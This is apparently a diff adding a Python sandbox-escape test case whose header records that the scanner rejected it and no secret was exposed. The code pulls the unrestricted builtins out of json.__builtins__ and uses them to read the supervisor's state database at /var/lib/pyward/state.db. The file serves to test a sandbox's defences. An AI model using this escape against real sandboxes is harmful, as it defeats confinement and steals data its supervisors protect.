@@ -1,0 +1,11 @@
+# escape: read the supervisor's state database
+# scanned: scan_rejected
+# unscanned: error @ module ~ UnsupportedOperation
+# evidence: secret_absent
+
+def real_builtins():
+    import json
+    b = json.__builtins__
+    return b if isinstance(b, dict) else b.__dict__
+def attack():
+    return real_builtins()['open']('/var/lib/pyward/state.db', 'rb').read()
